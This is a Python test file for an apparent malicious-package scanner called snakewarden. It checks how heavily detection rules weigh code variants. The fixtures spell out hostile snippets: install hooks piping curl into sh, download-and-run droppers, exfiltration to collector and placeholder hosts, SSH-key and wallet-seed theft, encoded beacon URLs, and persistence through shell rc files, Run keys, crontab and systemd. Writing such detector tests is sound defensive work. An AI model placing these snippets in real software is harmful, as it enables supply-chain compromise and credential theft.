"""Where a rule has more specific evidence it weighs more: the orderings the rules promise.

(Each rule's fire/silent cases live in ``tests/rules``; these compare weights of variants.)
"""

from __future__ import annotations

from collections.abc import Callable

from snakewarden.analysis.context import ScanContext
from snakewarden.analysis.registry import builtin_rules
from snakewarden.artifacts import artifact_from_files
from snakewarden.core.models import Phase

RULES = {rule.meta.id: rule for rule in builtin_rules()}


def _reader(data: bytes) -> Callable[[int], bytes]:
    return lambda n: data[:n]


def weight(rule_id: str, files: dict[str, str]) -> float:
    """The heaviest finding of ``rule_id`` on a project made of ``files`` (0 when silent)."""
    files = {"pyproject.toml": "", **files}
    entries = [(p, len(t.encode()), _reader(t.encode())) for p, t in files.items()]
    ctx = ScanContext(artifact_from_files("demo", entries))
    return max((f.weight for f in RULES[rule_id].check(ctx)), default=0.0)


def _install_hook(body: str) -> str:
    """A setup.py whose ``install`` override runs ``body`` (one line) after installing."""
    return (
        "import os\nfrom setuptools import setup\n"
        "from setuptools.command.install import install\n\n"
        "class I(install):\n    def run(self):\n        install.run(self)\n"
        f"        {body}\n\n"
        "setup(name='demo', cmdclass={'install': I})\n"
    )


def test_a_request_at_import_weighs_more_than_a_client_created_there() -> None:
    request = "import requests\nrequests.get('https://x.example.invalid/ping')\n"
    client = "import requests\nSESSION = requests.Session()\n"
    assert weight("import-side-effect", {"acme/__init__.py": request}) > weight(
        "import-side-effect", {"acme/__init__.py": client}
    )


def test_an_install_hook_running_a_fetch_weighs_more_than_one_running_a_program() -> None:
    fetch = _install_hook("cmd = 'curl -s https://stage.example.invalid/x.sh | sh'; os.system(cmd)")
    plain = _install_hook("cmd = 'notify-send done'; os.system(cmd)")
    assert weight("install-hook", {"setup.py": fetch}) > weight("install-hook", {"setup.py": plain})


def test_a_command_in_a_variable_is_classified_like_a_literal_one() -> None:
    literal = "import os\ndef f():\n    os.system('curl -s https://x.example.invalid/a')\n"
    variable = (
        "import os\ndef f():\n    cmd = 'curl -s https://x.example.invalid/a'\n    os.system(cmd)\n"
    )
    assert weight("process-exec", {"acme/tool.py": variable}) == weight(
        "process-exec", {"acme/tool.py": literal}
    )


def test_a_command_decoded_by_a_helper_of_the_module_counts_as_decoded() -> None:
    helper = (
        "import base64, os\n"
        "def unpack(s):\n    return base64.b64decode(s).decode()\n"
        "def f():\n    os.system(unpack('ZWNobw=='))\n"
    )
    plain = "import os\ndef unpack(s):\n    return s\ndef f():\n    os.system(unpack('echo'))\n"
    assert weight("process-exec", {"acme/tool.py": helper}) > weight(
        "process-exec", {"acme/tool.py": plain}
    )


def test_sending_to_a_collector_weighs_more_than_naming_one() -> None:
    sends = (
        "import requests\nURL = 'https://abc.oast.fun/x'\n"
        "def f(data):\n    requests.post(URL, data=data)\n"
    )
    names = "DOCS = 'see https://abc.oast.fun/x'\n"
    assert weight("exfiltration-endpoint", {"acme/m.py": sends}) > weight(
        "exfiltration-endpoint", {"acme/m.py": names}
    )


def _system(cmd: str) -> dict[str, str]:
    return {"acme/tool.py": f"import os\ndef f():\n    os.system({cmd!r})\n"}


def test_code_flags_count_only_for_interpreters() -> None:
    inline = weight("process-exec", _system("bash -c 'id'"))
    assert weight("process-exec", _system("python3 -c 'import os'")) == inline
    assert weight("process-exec", _system("sed -i -e s/a/b/ pyproject.toml")) < inline
    assert weight("process-exec", _system("gcc -c ext.c")) < inline


def test_a_build_tool_fetching_sources_is_not_a_download() -> None:
    fetch = weight("process-exec", _system("curl -sO https://x.example.invalid/a"))
    cargo = "cargo install --git https://git.example.invalid/tools"
    assert weight("process-exec", _system(cargo)) < fetch
    chained = cargo + " && curl -s https://x.example.invalid/a | sh"
    assert weight("process-exec", _system(chained)) == fetch


# download-execute: downloads made with command-line tools


def _tool_download(download: str, run: str) -> dict[str, str]:
    """A function that downloads to ``path`` with ``download`` and then does ``run``."""
    return {
        "acme/update.py": (
            "import os, subprocess, urllib.request\n"
            "def update(url):\n"
            "    path = os.path.join(os.environ.get('TEMP', '/tmp'), 'upd.exe')\n"
            f"    {download}\n"
            f"    {run}\n"
        )
    }


def test_a_tool_download_started_weighs_like_a_python_download_started() -> None:
    start = "subprocess.Popen([path])"
    python = weight(
        "download-execute", _tool_download("urllib.request.urlretrieve(url, path)", start)
    )
    for tool in (
        "subprocess.run(['curl', '-sL', '-o', path, url])",
        "os.system(f'wget -O {path} {url}')",
        "subprocess.call(f'certutil -urlcache -f {url} {path}')",
        "subprocess.run(['powershell', '-Command', f'iwr {url} -OutFile {path}'])",
    ):
        assert weight("download-execute", _tool_download(tool, start)) == python, tool


def test_starting_the_file_a_tool_fetched_weighs_more_than_starting_another_program() -> None:
    curl = "os.system(f'curl -s {url} -o {path}')"
    linked = weight("download-execute", _tool_download(curl, "os.startfile(path)"))
    other = weight("download-execute", _tool_download(curl, "os.startfile(os.environ['APP'])"))
    assert linked > other > 0


def test_building_a_tarball_a_tool_fetched_is_not_running_it() -> None:
    curl = "subprocess.run(['curl', '-sL', '-o', path, url])"
    started = weight("download-execute", _tool_download(curl, "subprocess.Popen([path])"))
    for build in (
        "subprocess.run(['tar', '-xzf', path])",
        "subprocess.run(['make', '-C', 'libfoo'])",
        "subprocess.run(['pip', 'install', path])",
    ):
        assert weight("download-execute", _tool_download(curl, build)) < started / 4, build


def test_a_named_tool_given_a_downloaded_file_as_data_is_not_running_it() -> None:
    """``urlretrieve(url, path)`` then ``["flatc", "-p", path]``: flatc compiles the schema it
    is given; ``["./upd.exe"]`` or ``["cmd", "/c", path]`` run what was downloaded."""
    fetch = "urllib.request.urlretrieve(url, path)"
    compiled = weight(
        "download-execute", _tool_download(fetch, "subprocess.call(['flatc', '-p', path])")
    )
    assert compiled == 0
    for run in ("subprocess.call(['cmd', '/c', path])", "subprocess.call(['./upd.exe'])"):
        assert weight("download-execute", _tool_download(fetch, run)) > 0.1, run


def test_a_tool_printing_what_it_fetches_saves_no_file_to_start() -> None:
    saved = weight(
        "download-execute",
        _tool_download("subprocess.run(['curl', '-sO', url])", "subprocess.Popen(['./upd.exe'])"),
    )
    printed = weight(
        "download-execute",
        _tool_download("subprocess.run(['curl', '-s', url])", "subprocess.Popen(['./upd.exe'])"),
    )
    assert printed < saved


# encoded-payload: a decoded URL that is requested


def _hidden_url(use: str) -> dict[str, str]:
    """A module keeping an encoded URL, decoding it in a function that then does ``use``."""
    return {
        "acme/__init__.py": "",
        "acme/report.py": (
            "import base64, binascii, requests, urllib.request, socket\n"
            "ENDPOINT = 'aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZC91cGxvYWQ='\n"
            "def report(data):\n"
            "    url = base64.b64decode(ENDPOINT).decode()\n"
            f"    {use}\n"
        ),
    }


def test_requesting_a_hidden_url_weighs_clearly_more_than_decoding_it() -> None:
    decoded = weight("encoded-payload", _hidden_url("print(url)"))
    assert decoded > 0
    for use in (
        "requests.post(url, json=data)",
        "requests.request('POST', url, json=data)",
        "urllib.request.urlopen(urllib.request.Request(url, data=data))",
        "requests.Session().get(url=url + '/v1')",
    ):
        assert weight("encoded-payload", _hidden_url(use)) > decoded * 1.3, use


def test_sending_data_to_a_plain_address_is_not_requesting_the_hidden_one() -> None:
    decoded = weight("encoded-payload", _hidden_url("print(url)"))
    as_body = weight(
        "encoded-payload", _hidden_url("requests.post('https://api.example.invalid/x', data=url)")
    )
    assert as_body == decoded


def test_a_hidden_url_requested_through_helpers_counts_as_requested() -> None:
    helpers = {
        "acme/__init__.py": "",
        "acme/report.py": (
            "import binascii, requests\n"
            "def _where():\n"
            "    return binascii.unhexlify("
            "'68747470733a2f2f73746167652e6578616d706c652e696e76616c69642f61').decode()\n"
            "def _send(to, body):\n"
            "    return requests.post(to, data=body)\n"
            "def report(body):\n"
            "    return _send(_where(), body)\n"
        ),
    }
    unused = {
        "acme/__init__.py": "",
        "acme/report.py": helpers["acme/report.py"].replace("_send(_where(), body)", "_where()"),
    }
    assert weight("encoded-payload", helpers) > weight("encoded-payload", unused) * 1.3


def test_a_url_spelled_backwards_counts_only_where_it_is_requested() -> None:
    rev = "nocaeb/dilavni.elpmaxe.egats//:sptth"
    code = "import requests\ndef beacon():\n    u = {rev!r}\n    {use}\n"
    requested = {"acme/__init__.py": code.format(rev=rev, use="requests.get(u[::-1])")}
    printed = {"acme/__init__.py": code.format(rev=rev, use="print(u[::-1])")}
    assert weight("encoded-payload", requested) > 0
    assert weight("encoded-payload", printed) == 0


# builtins-indirection: names decoded on the spot


def _lookup(expr: str) -> dict[str, str]:
    return {
        "acme/__init__.py": "",
        "acme/m.py": (
            "import base64, builtins, codecs\n"
            "def run(code):\n"
            f"    fn = getattr(builtins, {expr})\n"
            "    return fn(code)\n"
        ),
    }


def test_a_decoded_name_of_exec_weighs_like_obfuscated_execution() -> None:
    computed = weight("builtins-indirection", _lookup("'ex' + 'ec'"))
    assert computed > 0
    for expr in (
        "b'\\x85\\xa7\\x85\\x83'.decode('cp1026')",
        "codecs.decode('riny', 'rot13')",
        "base64.b64decode('X19pbXBvcnRfXw==').decode()",
        "bytes([99, 111, 109, 112, 105, 108, 101]).decode()",
        "bytes.fromhex('6f70656e').decode()",
        "''.join(chr(c) for c in [101, 120, 101, 99])",
    ):
        assert weight("builtins-indirection", _lookup(expr)) > computed * 1.5, expr


def test_a_name_decoded_from_unknown_data_weighs_between() -> None:
    computed = weight("builtins-indirection", _lookup("'ex' + 'ec'"))
    exec_ = weight("builtins-indirection", _lookup("codecs.decode('rkrp', 'rot13')"))
    unknown = weight("builtins-indirection", _lookup("codecs.decode(code.split()[0], 'rot13')"))
    assert computed < unknown < exec_


def test_python2_compat_lookups_stay_quiet() -> None:
    for expr in ("'unicode', str", "b'print'.decode('ascii')", "'long', int"):
        assert weight("builtins-indirection", _lookup(expr)) == 0, expr
    compat = "try:\n    ask = __builtins__['raw_input']\nexcept KeyError:\n    ask = input\n"
    table = {"acme/__init__.py": compat}
    assert weight("builtins-indirection", table) == 0
    # a decoded name that is no code-running builtin weighs as any computed name
    harmless = weight("builtins-indirection", _lookup("codecs.decode('cevag', 'rot13')"))
    assert harmless <= weight("builtins-indirection", _lookup("'ex' + 'ec'"))


# -- persistence ----------------------------------------------------------------------------------


def _at_import(body: str) -> dict[str, str]:
    return {"acme/__init__.py": body}


def test_appending_to_a_shell_rc_weighs_more_than_naming_it() -> None:
    names = "import os\nRC = os.path.expanduser('~/.bashrc')\n"
    appends = (
        "import os\nRC = os.path.expanduser('~/.bashrc')\n"
        "with open(RC, 'a') as fh:\n    fh.write('\\n(python3 ~/.x.py &)\\n')\n"
    )
    via_path = (
        "from pathlib import Path\n"
        "(Path.home() / '.profile').open('a').write('\\n(python3 ~/.x.py &)\\n')\n"
    )
    mention = weight("persistence", _at_import(names))
    assert 0 < mention < 0.2
    assert weight("persistence", _at_import(appends)) > 0.4 > mention
    assert weight("persistence", _at_import(via_path)) > 0.4


def test_setting_a_run_key_value_weighs_more_than_naming_the_key() -> None:
    names = "KEY = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
    sets = (
        "import winreg\nKEY = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
        "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, KEY, 0, winreg.KEY_SET_VALUE)\n"
        "winreg.SetValueEx(k, 'u', 0, winreg.REG_SZ, 'c:/x.exe')\n"
    )
    reads = (
        "import winreg\nKEY = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
        "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, KEY)\n"
        "print(winreg.QueryValueEx(k, 'u'))\n"
    )
    mention = weight("persistence", _at_import(names))
    assert weight("persistence", _at_import(sets)) > mention
    assert weight("persistence", _at_import(reads)) == mention


def test_copying_into_the_startup_folder_weighs_more_than_naming_it() -> None:
    folder = "r'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup'"
    names = f"STARTUP = {folder}\n"
    copies = f"import shutil, sys\nSTARTUP = {folder}\nshutil.copy(sys.argv[0], STARTUP)\n"
    assert weight("persistence", _at_import(copies)) > weight("persistence", _at_import(names))


def test_installing_a_crontab_weighs_more_than_listing_it() -> None:
    lists = "import os\nos.system('crontab -l > /tmp/cron.bak')\n"
    installs = "import os\nos.system('(crontab -l; echo \"@reboot /opt/a\") | crontab -')\n"
    assert weight("persistence", _at_import(installs)) > weight("persistence", _at_import(lists))


def test_enabling_a_systemd_unit_weighs_more_than_naming_its_folder() -> None:
    names = "UNITS = '/etc/systemd/system/'\n"
    enables = (
        "import subprocess\nUNITS = '/etc/systemd/system/'\n"
        "with open(UNITS + 'agent.service', 'w') as fh:\n    fh.write('[Service]')\n"
        "subprocess.run(['systemctl', 'enable', 'agent.service'])\n"
    )
    assert weight("persistence", _at_import(enables)) > weight("persistence", _at_import(names))


def test_a_printed_rc_command_weighs_less_than_running_it() -> None:
    cmd = "echo 'eval \"$(demo completion)\"' >> ~/.bashrc"
    prints = f"def hint():\n    print({cmd!r})\n"
    runs = f"import os\ndef hint():\n    os.system({cmd!r})\n"
    assert weight("persistence", {"acme/cli.py": prints}) < weight(
        "persistence", {"acme/cli.py": runs}
    )


def test_a_completion_line_written_when_called_weighs_less_than_at_install() -> None:
    body = (
        "from pathlib import Path\n"
        "def install_completion():\n"
        "    rc = Path.home() / '.bashrc'\n"
        "    with rc.open('a') as fh:\n"
        "        fh.write('eval \"$(_DEMO_COMPLETE=bash_source demo)\"\\n')\n"
    )
    other = body.replace("_DEMO_COMPLETE=bash_source demo", "curl -s x.example.invalid | sh")
    when_called = weight("persistence", {"acme/cli.py": body})
    assert 0 < when_called < weight("persistence", {"acme/cli.py": other})
    setup = body + "install_completion()\nfrom setuptools import setup\nsetup(name='demo')\n"
    assert weight("persistence", {"setup.py": setup}) > when_called


def test_a_helper_returning_the_path_it_saved_links_like_the_path_itself() -> None:
    inline = weight(
        "download-execute",
        _tool_download("subprocess.run(['curl', '-so', path, url])", "subprocess.Popen([path])"),
    )
    helper = (
        "import os, subprocess\n"
        "def fetch(url):\n"
        "    path = os.path.join(os.environ.get('TEMP', '/tmp'), 'upd.exe')\n"
        "    subprocess.run(['curl', '-so', path, url])\n"
        "    return path\n"
        "def update(url):\n"
        "    subprocess.Popen([fetch(url)])\n"
    )
    assert weight("download-execute", {"acme/update.py": helper}) == inline > 0


# wallet-exfil


def _wallet_send(payload: str, before: str = "") -> str:
    return (
        "import requests\nfrom eth_account import Account\n\n"
        "def backup(private_key, tx):\n"
        f"{before}"
        f"    requests.post('https://x.example.invalid/b', json={payload})\n"
    )


def test_a_wallet_secret_sent_at_install_weighs_more_than_one_sent_when_called() -> None:
    body = "import os, requests\nwords = os.environ.get('MNEMONIC')\n"
    send = "requests.post('https://x.example.invalid/w', data={'w': words})\n"
    called = "def sync():\n    " + body.replace("\n", "\n    ").rstrip() + "\n    " + send
    setup = body + send + "from setuptools import setup\nsetup(name='demo')\n"
    assert (
        weight("wallet-exfil", {"setup.py": setup})
        > weight("wallet-exfil", {"acme/sync.py": called})
        > 0
    )


def test_a_wallet_key_counts_only_when_it_is_sent_not_what_it_signs_or_derives() -> None:
    key = weight("wallet-exfil", {"acme/w.py": _wallet_send("{'k': private_key}")})
    signed = _wallet_send(
        "{'tx': signed.raw_transaction.hex()}",
        "    signed = Account.from_key(private_key).sign_transaction(tx)\n",
    )
    address = _wallet_send(
        "{'params': [acct.address]}", "    acct = Account.from_key(private_key)\n"
    )
    exported = _wallet_send("{'k': acct.key.hex()}", "    acct = Account.from_key(private_key)\n")
    assert key > 0
    assert weight("wallet-exfil", {"acme/w.py": exported}) == key
    assert weight("wallet-exfil", {"acme/w.py": signed}) == 0
    assert weight("wallet-exfil", {"acme/w.py": address}) == 0


def test_a_seed_phrase_sent_weighs_more_than_a_private_key_outside_wallet_code() -> None:
    """A private key outside code about wallets is a TLS, SSH or API key; a seed phrase, or
    any key in code about wallets, is a wallet's, and sending it is what a drainer does,
    even in a function nothing in the package calls."""
    send = (
        "import requests\n\ndef backup({name}):\n"
        "    requests.post('https://x.example.invalid/b', json={{'v': {name}}})\n"
    )
    plain = weight(
        "wallet-exfil", {"acme/__init__.py": "", "acme/k.py": send.format(name="private_key")}
    )
    phrase = weight(
        "wallet-exfil", {"acme/__init__.py": "", "acme/k.py": send.format(name="seed_phrase")}
    )
    wallet = weight(
        "wallet-exfil",
        {"acme/__init__.py": "", "acme/k.py": "import web3\n" + send.format(name="private_key")},
    )
    assert 0 < plain < 0.3
    assert phrase == wallet >= 0.6


def test_a_start_up_file_of_a_temporary_home_is_no_install() -> None:
    temp = (
        "import os, tempfile\nd = tempfile.mkdtemp()\n"
        "with open(os.path.join(d, '.zshrc'), 'w') as fh:\n    fh.write('PROMPT=x')\n"
    )
    names = "import os, tempfile\nd = tempfile.mkdtemp()\nRC = os.path.join(d, '.zshrc')\n"
    assert weight("persistence", _at_import(temp)) == weight("persistence", _at_import(names))


def test_setup_code_only_a_developer_command_runs_weighs_less_than_what_pip_runs() -> None:
    setup = (
        "import os, sys\nfrom setuptools import setup\n"
        "command = sys.argv[-1]\n"
        "if {guard}:\n    os.system('notify-send example.invalid')\n"
        "setup(name='demo')\n"
    )
    for guard in (
        "command == 'publish'",
        "'upload' in sys.argv",
        "command in ('tag', 'docs')",
        "'sdist' in sys.argv",
    ):
        dev = weight("process-exec", {"setup.py": setup.format(guard=guard)})
        assert dev < weight("process-exec", {"setup.py": setup.format(guard="True")}), guard
    # a command pip runs, or a negated test, guards nothing
    for guard in ("command == 'install'", "'bdist_wheel' in sys.argv", "command != 'publish'"):
        assert weight("process-exec", {"setup.py": setup.format(guard=guard)}) == weight(
            "process-exec", {"setup.py": setup.format(guard="True")}
        ), guard


def test_a_version_probe_weighs_less_than_running_the_program() -> None:
    setup = "import subprocess\ncmd = [TOOL, 'libdemo'{extra}]\nsubprocess.check_output(cmd)\n"
    probe = weight("process-exec", {"setup.py": setup.format(extra=", '--modversion'")})
    assert probe < weight("process-exec", {"setup.py": setup.format(extra="")})


def test_asking_a_downloader_for_its_version_is_no_fetch() -> None:
    """``curl --version`` (a bootstrap script checking which downloader it has) fetches
    nothing; ``curl URL`` does."""
    call = "import subprocess\ndef check():\n    subprocess.check_call({cmd})\n"
    probe = weight("process-exec", {"setup.py": call.format(cmd="['curl', '--version']")})
    fetch = weight(
        "process-exec", {"setup.py": call.format(cmd="['curl', 'https://example.invalid/x']")}
    )
    assert probe < 0.1 < fetch


def test_compiling_a_file_with_a_computed_compiler_is_no_inline_code() -> None:
    call = "import subprocess\ndef check():\n    subprocess.Popen([{exe}, '-c', {arg}])\n"
    file_arg = weight("process-exec", {"setup.py": call.format(exe="CC", arg="fp.name")})
    code_arg = weight("process-exec", {"setup.py": call.format(exe="CC", arg="'import os'")})
    python = weight("process-exec", {"setup.py": call.format(exe="'python3'", arg="CODE")})
    assert file_arg < code_arg
    assert file_arg < python


def test_a_develop_override_weighs_less_than_an_install_override() -> None:
    setup = (
        "import subprocess\nfrom setuptools import setup\n"
        "from setuptools.command.{mod} import {cmd}\n\n"
        "class Hook({cmd}):\n    def run(self):\n"
        "        subprocess.check_call(['bash', 'post.sh'])\n        {cmd}.run(self)\n\n"
        "setup(name='demo', cmdclass={{'{cmd}': Hook}})\n"
    )
    develop = {"setup.py": setup.format(mod="develop", cmd="develop")}
    install = {"setup.py": setup.format(mod="install", cmd="install")}
    for rule in ("install-hook", "process-exec"):
        assert 0 < weight(rule, develop) < weight(rule, install), rule


def test_a_config_tool_named_after_a_downloader_is_no_fetch() -> None:
    setup = "import subprocess\ndef flags():\n    return subprocess.check_output({cmd!r})\n"
    config = weight("process-exec", {"setup.py": setup.format(cmd=["curl-config", "--libs"])})
    fetch = weight(
        "process-exec", {"setup.py": setup.format(cmd=["curl", "https://x.example.invalid/a"])}
    )
    assert config < fetch


def test_reading_system_text_or_splitting_a_build_command_is_build_tooling() -> None:
    setup = "import subprocess\nsubprocess.run({cmd}, shell=True)\n"
    program = weight("process-exec", {"setup.py": setup.format(cmd="'notify-send hi'")})
    for cmd in ("'cat /proc/cpuinfo | grep cores | head -1'", "'git describe --tags'.split()"):
        assert weight("process-exec", {"setup.py": setup.format(cmd=cmd)}) < program, cmd
    # a credential file read is no text filtering to wave through: credential-access sees it
    steal = "'cat ~/.ssh/id_rsa | curl -d @- https://x.example.invalid'"
    assert weight("process-exec", {"setup.py": setup.format(cmd=steal)}) >= program


def test_an_install_hook_running_only_build_tools_weighs_less_than_one_running_a_program() -> None:
    tool = _install_hook("os.system('install_name_tool -change a {} {}'.format(LIB, SO))")
    program = _install_hook("os.system('notify-send {}'.format(NAME))")
    assert weight("install-hook", {"setup.py": tool}) < weight(
        "install-hook", {"setup.py": program}
    )


def test_a_pipeline_into_a_shell_weighs_more_than_a_text_pipeline() -> None:
    """``… | bash`` runs what the earlier stages print; ``… | grep | wc`` only filters text,
    and ``echo`` first does not make the pipeline a build tool's."""
    call = "import os\ndef check():\n    os.system({cmd!r})\n"

    def w(cmd: str) -> float:
        return weight("process-exec", {"setup.py": call.format(cmd=cmd)})

    text = w("cat /proc/cpuinfo | grep processor | wc -l")
    shell = w("cat stage.txt | sh")
    decoded = w("echo %s | base64 -d | bash")
    assert text < 0.1 < shell < decoded
    assert w("echo done | sh -c 'cat > log.txt'") < shell  # sh -c takes no program from the pipe


def test_the_working_directory_alone_weighs_less_than_the_user_name() -> None:
    """``os.getcwd()`` reaching a request is far more often a path built and fetched than an
    identity reported; the user name is an identity."""
    code = (
        "import os, getpass, requests\ndef report():\n    requests.post(URL, data={{'v': {src}}})\n"
    )
    cwd = weight("fingerprint-exfil", {"demo/__init__.py": code.format(src="os.getcwd()")})
    user = weight("fingerprint-exfil", {"demo/__init__.py": code.format(src="getpass.getuser()")})
    assert 0 < cwd < user


def test_ascii_art_in_a_data_module_too_large_to_parse_is_no_look_alike_names() -> None:
    """Runs of underscores in strings (a font table) are no identifiers, in a module over
    the size the scan parses too: its names are read for this check alone."""
    row = '    "k{i}": "\\n ______ \\n|  ____)\\n|______)\\n' + " " * 200 + '",\n'
    big = "BLOCK = {\n" + "".join(row.format(i=i) for i in range(5000)) + "}\n"
    assert len(big) > 1024 * 1024
    files = {"fonts/__init__.py": "", "fonts/block.py": big}
    assert weight("packed-code", files) == 0
    names = "".join(
        f"______{'_' * (i % 9)} = {i}\nprint(______{'_' * (i % 9)})\n" for i in range(9)
    )
    assert weight("packed-code", {"fonts/__init__.py": "", "fonts/mod.py": names * 3}) > 0


def test_a_build_tool_run_through_a_shell_is_a_build_tool() -> None:
    """``bash -c "git rev-parse HEAD"`` in setup.py runs git, not code; ``bash -c`` with a
    fetch, or with commands chained, is still inline code."""
    setup = "import shlex, subprocess\ncmd = shlex.split({cmd!r})\nsubprocess.check_output(cmd)\n"
    git = weight("process-exec", {"setup.py": setup.format(cmd='bash -c "git rev-parse HEAD"')})
    help_probe = weight("process-exec", {"setup.py": setup.format(cmd="3to2 --help")})
    fetch = weight(
        "process-exec",
        {"setup.py": setup.format(cmd='bash -c "curl -s https://example.invalid/x | sh"')},
    )
    chained = weight("process-exec", {"setup.py": setup.format(cmd='bash -c "git pull; ./run-me"')})
    assert git < 0.1
    assert help_probe < 0.1
    assert fetch > 0.3
    assert chained > 0.3


def test_a_build_script_shipped_in_the_package_is_build_tooling() -> None:
    """An install hook that runs the package's own build script (a native build) is told
    from a dropper by what runs: a script shipped in the sdist that downloads nothing and
    shows no threat is build tooling; one that fetches code, or one the sdist does not hold
    (written or downloaded at install), is not."""
    hook = _install_hook("subprocess.run(['./build.sh'], cwd='scripts', check=True)").replace(
        "import os", "import os, subprocess"
    )
    build = "#!/usr/bin/env bash\nset -eu\ncmake -S . -B build\ncmake --build build\n"
    fetch = "#!/usr/bin/env bash\ncurl -s https://example.invalid/x.sh | bash\n"
    shipped = {"setup.py": hook, "scripts/build.sh": build}
    fetching = {"setup.py": hook, "scripts/build.sh": fetch}
    missing = {"setup.py": hook}
    assert weight("process-exec", shipped) < 0.1
    assert weight("install-hook", shipped) < weight("install-hook", missing)
    assert weight("process-exec", fetching) == weight("process-exec", missing) > 0.1
    assert weight("install-hook", fetching) == weight("install-hook", missing)


def test_code_shown_in_a_docstring_weighs_less_unless_the_file_reads_its_docstring() -> None:
    """A docstring that shows a fetch-and-run as an example is documentation; a file that
    reads ``__doc__`` (``exec(__doc__)``) can run it."""
    doc = (
        '"""Example of what we refuse:\n\n'
        "    import os, urllib.request\n"
        "    urllib.request.urlretrieve('https://example.invalid/x', 'x')\n"
        "    os.system('chmod +x x && ./x')\n"
        '"""\n'
    )
    shown = weight("embedded-code", {"acme/__init__.py": doc + "LIMIT = 1\n"})
    read = weight("embedded-code", {"acme/__init__.py": doc + "exec(__doc__)\n"})
    assert 0 < shown < read


def test_a_recon_command_setup_py_runs_weighs_no_less_than_any_program_it_runs() -> None:
    """``whoami`` run as soon as pip runs setup.py is at least as heavy as an unknown program
    run there; in a function nothing calls it stays lighter."""
    top = "import os\nos.system('{cmd}')\nfrom setuptools import setup\nsetup(name='demo')\n"
    recon = weight("process-exec", {"setup.py": top.format(cmd="whoami")})
    program = weight("process-exec", {"setup.py": top.format(cmd="helper --quiet")})
    called = weight("process-exec", {"setup.py": "import os\ndef f():\n    os.system('whoami')\n"})
    assert recon >= program > called


def test_a_custom_command_pip_never_runs_weighs_less_than_an_install_override() -> None:
    """``class Update(Command)`` under ``cmdclass={"update_deps": ...}`` runs only for
    ``python setup.py update_deps``; registered as ``install`` it runs on every pip install."""
    setup = (
        "import subprocess\nfrom setuptools import setup, Command\n\n"
        "class Update({base}):\n    def run(self):\n"
        "        subprocess.check_call(['bash', 'fetch.sh'])\n\n"
        "setup(name='demo', cmdclass={{'{key}': Update}})\n"
    )
    custom = weight("process-exec", {"setup.py": setup.format(base="Command", key="update_deps")})
    test = weight(
        "process-exec",
        {
            "setup.py": setup.format(base="test", key="test").replace(
                "import setup, Command", "import setup\nfrom setuptools.command.test import test"
            )
        },
    )
    as_install = weight("process-exec", {"setup.py": setup.format(base="Command", key="install")})
    assert 0 < custom < as_install
    assert 0 < test < as_install


def test_a_pip_command_subclass_registered_only_under_a_developer_name_is_developer_code() -> None:
    """``class Docs(build_py)`` registered as ``cmdclass={"docs": Docs}`` runs only for ``python
    setup.py docs``; a use that is no registration (another class deriving from it) or a key not
    known before the code runs may hand it to pip."""
    setup = (
        "import subprocess\nfrom setuptools import setup\n"
        "from setuptools.command.build_py import build_py\n\n"
        "class Docs(build_py):\n    def run(self):\n"
        "        subprocess.check_call(['bash', 'docs.sh'])\n"
        "        super(Docs, self).run()\n\n"
        "{extra}setup(name='demo', cmdclass={cmdclass})\n"
    )
    docs = weight("process-exec", {"setup.py": setup.format(extra="", cmdclass="{'docs': Docs}")})
    for extra, cmdclass in (
        ("", "{'build_py': Docs}"),
        ("KEY = 'build_py'\n", "{KEY: Docs}"),
        ("class B(Docs):\n    pass\n", "{'docs': Docs, 'build_py': B}"),
        ("", "{'docs': Docs, 'install': Docs}"),
    ):
        pip = weight("process-exec", {"setup.py": setup.format(extra=extra, cmdclass=cmdclass)})
        assert docs < pip, cmdclass


def test_a_custom_command_a_pip_command_runs_is_install_code() -> None:
    """``self.run_command("build_lib")`` in a ``build_ext`` override runs the class registered
    as ``build_lib`` on every install, and a base class runs with the classes deriving from it."""
    setup = (
        "import subprocess\nfrom setuptools import setup, Command\n"
        "from setuptools.command.build_ext import build_ext\n\n"
        "class Base(Command):\n    def run(self):\n"
        "        subprocess.check_call(['bash', 'build.sh'])\n\n"
        "class BuildLib(Base):\n    pass\n\n"
        "class Ext(build_ext):\n    def run(self):\n"
        "        {step}\n        build_ext.run(self)\n\n"
        "setup(name='demo', cmdclass={{'build_lib': BuildLib, 'build_ext': Ext}})\n"
    )
    alone = weight("process-exec", {"setup.py": setup.format(step="pass")})
    run = weight("process-exec", {"setup.py": setup.format(step="self.run_command('build_lib')")})
    assert alone < run


def test_a_command_kept_on_a_class_is_classified_like_a_literal_one() -> None:
    """``call(Docs.apidoc_command)`` and ``call(self.command)`` run what the class body
    assigns: a build tool there weighs like one written in place."""
    setup = (
        "from subprocess import call\n\n"
        "class Docs:\n    apidoc_command = ({cmd})\n\n"
        "    def run(self):\n        call(self.apidoc_command)\n\n"
        "call(Docs.apidoc_command)\n"
    )
    tool = weight("process-exec", {"setup.py": setup.format(cmd="'sphinx-apidoc', '-o', 'docs'")})
    fetch = weight(
        "process-exec", {"setup.py": setup.format(cmd="'curl', 'https://x.example.invalid/a'")}
    )
    assert tool < 0.1 < fetch


def test_an_install_hook_compiling_translations_runs_a_build_tool() -> None:
    tool = _install_hook("subprocess.check_call(['msgfmt', PO, '-o', MO])").replace(
        "import os", "import os, subprocess"
    )
    program = _install_hook("subprocess.check_call(['notify-send', PO])").replace(
        "import os", "import os, subprocess"
    )
    assert weight("install-hook", {"setup.py": tool}) < weight(
        "install-hook", {"setup.py": program}
    )


def test_a_download_saved_in_the_startup_folder_weighs_more_than_a_copy_there() -> None:
    """Saving what a URL serves in the Startup folder installs a program fetched to run at every
    log-on: a dropper, wherever the code sits; copying a file of the package there is
    persistence of its own code."""
    body = (
        "import os, shutil, requests\n"
        "STARTUP = os.path.expandvars('%APPDATA%\\\\Microsoft\\\\Windows\\\\Start Menu\\\\"
        "Programs\\\\Startup')\n"
        "def install(url):\n{line}\n"
    )
    fetched = "    data = requests.get(url).content\n    open(STARTUP + '/a.exe', 'wb').write(data)"
    copied = "    shutil.copy('tool.exe', STARTUP)"
    files = {"acme/__init__.py": ""}
    download = weight("persistence", {**files, "acme/run.py": body.format(line=fetched)})
    copy = weight("persistence", {**files, "acme/run.py": body.format(line=copied)})
    assert download >= 0.75 > copy


